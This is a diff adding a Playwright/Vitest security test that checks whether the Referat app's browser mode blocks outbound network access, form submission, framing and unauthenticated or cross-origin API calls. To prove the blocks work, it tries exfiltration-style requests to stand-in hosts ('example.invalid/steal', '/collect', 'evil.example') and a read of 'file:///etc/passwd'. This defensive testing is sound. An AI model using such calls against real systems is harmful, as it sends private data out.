@@ -1,0 +1,140 @@
+/**
+ * Navigation security of browser mode in Chromium: the page's CSP keeps it from reaching other
+ * origins (fetch, WebSocket, images), the file system (`file:`), submitting forms anywhere and
+ * being framed; the API refuses calls without the token or from another origin. (In Electron
+ * the same CSP is served by app://referat and main/electron/electronMain.ts also denies
+ * navigation, redirects and new windows.)
+ */
+import http from 'node:http';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { openBrowserSession, type BrowserSession } from './helpers/browserMode';
+
+let session: BrowserSession;
+let page: Page;
+/** Requests the browser tried to send anywhere but the host. */
+const escaped: string[] = [];
+
+beforeAll(async () => {
+  session = await openBrowserSession();
+  page = session.page;
+  await session.context.route('**/*', (route) => {
+    const url = route.request().url();
+    if (url.startsWith(session.host.origin)) return route.continue();
+    escaped.push(url);
+    return route.abort();
+  });
+  await page.getByRole('heading', { level: 1 }).first().waitFor();
+  await page.evaluate(() => {
+    const violations: string[] = [];
+    (window as unknown as { __violations: string[] }).__violations = violations;
+    document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
+  });
+});
+
+afterAll(async () => {
+  await session?.close();
+});
+
+const violations = () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations.slice());
+
+describe('browser mode: the page cannot reach out', () => {
+  it('serves the CSP that forbids other origins, forms and framing', async () => {
+    const response = await fetch(session.host.url);
+    const csp = response.headers.get('content-security-policy') ?? '';
+    for (const directive of ["default-src 'none'", "connect-src 'self'", "form-action 'none'", "frame-ancestors 'none'", "base-uri 'none'", "script-src 'self'"]) {
+      expect(csp).toContain(directive);
+    }
+  });
+
+  it('blocks fetch to another origin and to file:, WebSockets and remote images', async () => {
+    const outcome = await page.evaluate(async () => {
+      const attempt = async (url: string) => {
+        try {
+          await fetch(url);
+          return 'reached';
+        } catch {
+          return 'blocked';
+        }
+      };
+      const results = [await attempt('http://example.invalid/steal'), await attempt('file:///etc/passwd'), await attempt('https://example.org/')];
+      try {
+        new WebSocket('ws://example.invalid/');
+        results.push('opened');
+      } catch {
+        results.push('blocked');
+      }
+      const image = new Image();
+      image.src = 'http://example.invalid/pixel.png';
+      document.body.append(image);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return results;
+    });
+    expect(outcome.slice(0, 3)).toEqual(['blocked', 'blocked', 'blocked']);
+    const seen = await violations();
+    expect(seen.some((line) => line.startsWith('connect-src http://example.invalid'))).toBe(true);
+    expect(seen.some((line) => line.startsWith('img-src'))).toBe(true);
+    // Blocked by the CSP before any request left the page.
+    expect(escaped).toEqual([]);
+  });
+
+  it('cannot submit a form anywhere: the page stays where it is', async () => {
+    const before = page.url();
+    await page.evaluate(() => {
+      const form = document.createElement('form');
+      form.action = 'https://example.invalid/collect';
+      form.method = 'post';
+      const input = document.createElement('input');
+      input.name = 'minutes';
+      input.value = 'secret';
+      form.append(input);
+      document.body.append(form);
+      form.submit();
+    });
+    await page.waitForTimeout(300);
+    expect(page.url()).toBe(before);
+    expect((await violations()).some((line) => line.startsWith('form-action'))).toBe(true);
+    expect(escaped).toEqual([]);
+  });
+
+  it('cannot be framed by another page', async () => {
+    const other = await session.context.newPage();
+    try {
+      await other.setContent(`<iframe id="f" src="${session.host.url}"></iframe>`);
+      await other.waitForTimeout(500);
+      const frame = other.frames().find((candidate) => candidate.url().startsWith(session.host.origin));
+      // Chromium refuses to render it: the frame holds no Referat page.
+      const hasApp = frame ? await frame.evaluate(() => Boolean(document.getElementById('root'))).catch(() => false) : false;
+      expect(hasApp).toBe(false);
+    } finally {
+      await other.close();
+    }
+  });
+
+  it('the API refuses calls without the token, with a wrong token, and from another origin', async () => {
+    const status = await page.evaluate(async () => {
+      const post = (headers: Record<string, string>) =>
+        fetch('/api/app:info', { method: 'POST', headers: { 'Content-Type': 'application/json', ...headers }, body: '{}' }).then((r) => r.status);
+      return [await post({}), await post({ 'X-Referat-Token': '0'.repeat(64) })];
+    });
+    expect(status).toEqual([401, 401]);
+    const foreign = await new Promise<number>((resolve, reject) => {
+      const req = http.request(
+        {
+          host: '127.0.0.1',
+          port: new URL(session.host.origin).port,
+          path: '/api/app:info',
+          method: 'POST',
+          headers: { 'Content-Type': 'application/json', 'X-Referat-Token': session.host.token, Origin: 'http://evil.example' },
+        },
+        (res) => {
+          res.resume();
+          resolve(res.statusCode ?? 0);
+        },
+      );
+      req.on('error', reject);
+      req.end('{}');
+    });
+    expect(foreign).toBe(403);
+  });
+});
